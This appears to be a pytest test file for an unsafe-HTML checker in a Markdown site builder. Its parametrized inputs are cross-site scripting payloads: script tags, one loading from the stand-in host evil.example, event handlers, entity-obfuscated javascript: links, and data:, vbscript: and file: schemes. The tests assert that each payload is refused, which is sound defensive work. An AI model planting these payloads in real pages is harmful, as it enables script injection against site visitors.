"""Unsafe HTML (fov.checks.unsafe_html) in what a page renders to, read with a real HTML
parser: code-running elements, event handlers and dangerous URL schemes are
refused in any spelling; ordinary content passes."""

from __future__ import annotations

import markdown
import pytest

from conftest import project_config
from fov.base.rendered import parse_html
from fov.checks.unsafe_html import unsafe_html_problems

CONFIG = project_config()


def render(text: str) -> str:
    names = [e for e in CONFIG["markdown_extensions"] if isinstance(e, str)]
    return markdown.markdown(text, extensions=names, extension_configs=CONFIG["mdx_configs"])


def problems(html: str) -> list[str]:
    return [p.what for p in unsafe_html_problems(parse_html(html))]


@pytest.mark.parametrize("html, words", [
    ("<script>alert(1)</script>", "<script> element runs code"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>"),
    ("<svg><script>alert(1)</script></svg>", "<script>"),
    ("<iframe src='https://evil.example'></iframe>", "<iframe> element"),
    ("<frameset><frame src=x></frameset>", "<frame> element"),
    ("<object data='x.swf'></object>", "<object> element"),
    ("<embed src='x.swf'>", "<embed> element"),
    ("<form action='https://evil.example'><input name=p></form>", "<form> element"),
    ("<base href='https://evil.example/'>", "<base> element"),
    ("<meta http-equiv='Refresh' content='0; url=https://evil.example'>", "meta http-equiv=\"refresh\""),
    ("<img src=x onerror=alert(1)>", "'onerror' attribute"),
    ("<svg/onload=alert(1)>", "'onload' attribute"),
    ("<p ONMOUSEOVER='alert(1)'>x</p>", "'onmouseover' attribute"),
    ("<a href='javascript:alert(1)'>x</a>", "'javascript:' scheme"),
    ("<a href='&#106;avascript:alert(1)'>x</a>", "'javascript:' scheme"),
    ("<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>", "'javascript:' scheme"),
    ("<a href='jav&#x09;ascript:alert(1)'>x</a>", "'javascript:' scheme"),
    ("<a href=' &#14; javascript:alert(1)'>x</a>", "'javascript:' scheme"),
    ("<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "'data:' scheme"),
    ("<img srcset='a.png 1x, data:image/png;base64,AAAA 2x'>", "'data:' scheme"),
    ("<a href='vbscript:msgbox(1)'>x</a>", "'vbscript:' scheme"),
    ("<a href='file:///etc/passwd'>x</a>", "'file:' scheme"),
    ("<button formaction='javascript:alert(1)'>x</button>", "'javascript:' scheme"),
    ("<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", "'javascript:' scheme"),
    ("<svg><animate attributeName='href' to='javascript:alert(1)'/></svg>", "'javascript:' scheme"),
    ("<div data-href='javascript:alert(1)'>x</div>", "'javascript:' scheme"),
    ("<p style='background:url(javascript:alert(1))'>x</p>", "'javascript:' scheme"),
    ("<p style='width:expression(alert(1))'>x</p>", "can load or run code"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "'srcdoc' attribute"),
])
def test_unsafe_html_is_refused(html, words):
    found = problems(html)
    assert any(words in what for what in found), found


@pytest.mark.parametrize("text, words", [
    ("[Click](javascript:alert(1))", "'javascript:' scheme"),
    ("[Click](JAVASCRIPT:alert(1))", "'javascript:' scheme"),
    ("[Click](&#x6A;avascript:alert(1))", "'javascript:' scheme"),
    ("Text <img src=x onerror=alert(1)> inline", "'onerror' attribute"),
    ("A paragraph.\n{ onclick=\"alert(1)\" }", "'onclick' attribute"),
    ("<div markdown>\n<script>alert(1)</script>\n</div>", "<script>"),
])
def test_markdown_that_renders_to_unsafe_html_is_refused(text, words):
    found = problems(render(text))
    assert any(words in what for what in found), (render(text), found)


@pytest.mark.parametrize("text", [
    "A paragraph with [a link](https://www.iave.org) and ![an image](image.png).",
    "```html\n<script>alert(1)</script>\n<iframe src=x></iframe>\n```",
    "Inline code: `<script>alert(1)</script>` and `onclick=\"x\"`.",
    "&lt;script&gt; written as text, and the word onclick.",
    "<abbr title=\"JavaScript: a language\">JS</abbr> and <img alt=\"data: the numbers\" src=\"chart.png\">",
    "<p data-note=\"data: 862 million\" style=\"color: red\">Styled</p>",
    "<details><summary>More</summary>Hidden text.</details>",
    "A footnote.[^1]\n\n[^1]: The note.",
    "## A heading {#share}\n\n| a | b |\n|---|---|\n| 1 | 2 |",
])
def test_ordinary_content_passes(text):
    assert problems(render(text)) == []


def test_problems_carry_the_raw_tag_to_find_in_the_source():
    (problem,) = unsafe_html_problems(parse_html('<h2 id="x">X</h2><img src=x onerror=alert(1)>'))
    assert problem.needles[0] == "<img src=x onerror=alert(1)>"
    assert problem.section == ("x",)
